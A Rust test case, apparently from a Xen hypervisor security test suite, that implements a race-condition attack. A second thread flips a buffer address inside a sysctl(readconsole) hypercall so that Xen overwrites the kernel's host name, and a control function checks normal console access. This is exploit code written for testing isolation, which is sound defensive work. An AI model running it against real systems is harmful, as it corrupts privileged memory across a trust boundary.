//! As race-argument, one step further in: the address stands in the structure that Xen itself copies.

use super::{Attack, Level};
use crate::calls::{number, sysctl_buffer};
use crate::layout::ReadConsole;
use crate::outcome::{Outcome, broken, works};
use crate::witness::HostName;
use crate::xen::{Buffer, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "race-embedded",
    rule: "B3",
    level: Level::Integrity,
    summary: "a second thread flips the buffer address inside of sysctl(readconsole) between ours and the kernel's",
    needs: "privcmd; more than one CPU makes it likelier",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin,
};

fn run() -> Outcome {
    const READCONSOLE: u32 = 1;
    let privcmd = Privcmd::open()?;
    let name = HostName::marked()?;
    let own = Buffer::new(1)?;
    let request = ReadConsole {
        clear: 0,
        incremental: 0,
        padding: [0; 2],
        index: 0,
        buffer: own.address(),
        count: 16,
        end: 0,
    };
    let call = sysctl_buffer(READCONSOLE, &request)?;
    // The buffer's address: behind the head of eight bytes, and eight more.
    super::race_argument::race(&name, &call, 16, [own.address(), name.address], || {
        call.write(24, &16_u32.to_le_bytes());
        privcmd.hypercall(number::SYSCTL, [call.address(), 0, 0, 0, 0]).map(drop)
    })
}

fn twin() -> Outcome {
    match Privcmd::open()?.console_ring(None) {
        Ok((text, _)) if !text.is_empty() => works(format!("{} bytes of Xen's console", text.len())),
        Ok(_) => broken("Xen's console is empty"),
        Err(error) => broken(format!("{error:#}")),
    }
}
